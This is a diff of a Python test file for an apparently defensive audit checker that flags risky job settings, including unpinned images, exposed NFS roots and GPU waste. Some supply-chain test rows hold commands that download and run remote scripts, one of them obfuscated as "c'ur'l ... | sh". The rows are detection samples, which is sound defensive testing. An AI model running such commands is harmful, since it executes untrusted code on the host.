@@ -9,7 +9,7 @@ from tests.dashboard.audit.assessed import NOW_MS
 
 Answer = Literal["failed", "passed", "not assessed"]
 Row = tuple[str, Answer, Mapping[str, object], str]
-"""Check, answer, record, and what the message or reason says, or the severity of a failure and a bar before it."""
+"""Check, answer, record, and what the message or reason says; of a failure the severity and a bar first."""
 
 IMAGE = "swr.cn-north-4.myhuaweicloud.com/vision/resnet:1.0"
 PINNED = f"{IMAGE}@sha256:{'ab' * 32}"
@@ -44,7 +44,7 @@ ROWS: tuple[Row, ...] = (
     ("SEC003", "passed", _command(RUN), ""),
     ("SEC003", "not assessed", _command(BROKEN), "syntax"),
     ("SUP001", "failed", _command("curl -s https://x.example/a.sh | bash"), "high|curl -s"),
-    ("SUP001", "failed", _command("""bash -c "$(wget -qO- https://x.example/a)" """), "runs what it downloads"),
+    ("SUP001", "failed", _command('bash -c "$(wget -qO- https://x.io/a)"'), "runs what it downloads"),
     ("SUP001", "failed", _command("c'ur'l https://x.example/a.sh | sh"), "runs what it downloads"),
     ("SUP001", "passed", _command("curl -s https://x.example/a.sh -o a.sh"), ""),
     ("SUP001", "not assessed", _command(7), "user_command is no text"),
@@ -123,7 +123,7 @@ ROWS: tuple[Row, ...] = (
     ("ISO002", "failed", {"nas_share_addr": "10.0.0.1:/"}, "is the root"),
     ("ISO002", "passed", _nfs("10.0.0.1:/team", read_only=True), ""),
     ("ISO002", "not assessed", _nfs("10.0.0.1:/team", read_only="perhaps"), "neither true nor false"),
-    ("COST001", "failed", {**_image("r.example/a/cpu-base:1"), "gpu_num": 8, "gpu_type": "V100"}, "medium|8 × V100"),
+    ("COST001", "failed", {**_image("r.io/cpu-base:1"), "gpu_num": 8, "gpu_type": "V100"}, "medium|8 × V100"),
     ("COST001", "passed", {**_image("r.example/a/cpu-base:1"), "gpu_num": 0}, ""),
     ("COST001", "passed", {**_image("r.example/a/gpu-base:1"), "gpu_num": 8}, ""),
     ("COST001", "not assessed", _image("r.example/a/cpu-base:1"), "not known whether"),
